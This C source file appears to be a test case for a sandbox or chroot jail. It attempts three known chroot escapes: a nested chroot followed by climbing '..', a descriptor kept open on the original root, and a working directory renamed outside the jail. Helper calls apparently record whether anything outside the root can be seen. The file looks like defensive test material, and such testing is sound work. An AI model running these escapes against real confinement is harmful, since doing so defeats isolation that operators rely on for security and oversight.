// Leaves its root by a second chroot, with and without a descriptor of the first.
#include "attack.h"

static void climb(void) {
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") == 0)
        show_outside("");
    show_outside(".");
}

int main(void) {
    mkdir("/srv/inner", 0755);
    if (fork() == 0) {
        if (chroot("/srv/inner") == 0)
            climb();
        _exit(0);
    }
    wait(NULL);
    if (fork() == 0) {
        int root = open("/", O_RDONLY | O_DIRECTORY);
        if (chroot("/srv/inner") == 0 && fchdir(root) == 0)
            climb();
        _exit(0);
    }
    wait(NULL);
    if (fork() == 0) {
        // A sibling's working directory that is moved out of the chroot.
        mkdir("/srv/inner/moved", 0755);
        if (chdir("/srv/inner/moved") == 0 && rename("/srv/inner/moved", "/srv/moved") == 0 && chroot("/srv/inner") == 0)
            climb();
        _exit(0);
    }
    wait(NULL);
    return over();
}
